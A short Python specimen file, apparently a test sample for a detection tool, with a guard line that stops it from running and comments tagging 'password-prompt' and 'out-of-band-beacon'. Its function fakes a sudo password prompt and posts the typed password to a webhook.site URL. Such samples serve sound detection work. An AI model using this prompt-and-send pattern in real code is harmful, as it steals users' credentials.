raise SystemExit("specimen: not to be run")
import getpass
import requests

def ask():
    word = getpass.getpass("[sudo] password for user: ")  # match: password-prompt
    requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data={"w": word})  # match: out-of-band-beacon
